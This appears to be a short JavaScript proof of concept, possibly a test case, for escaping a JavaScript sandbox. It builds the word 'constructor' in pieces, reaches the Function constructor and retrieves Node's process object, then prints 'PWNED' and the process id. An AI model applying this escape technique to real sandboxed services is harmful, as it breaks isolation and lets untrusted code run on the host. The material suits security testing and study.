'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const o = Date.now() > 1 ? Object.getOwnPropertyDescriptor({ a: t }, 'a').value : {};
console.log('PWNED', o.go(fn)('return process')().pid);
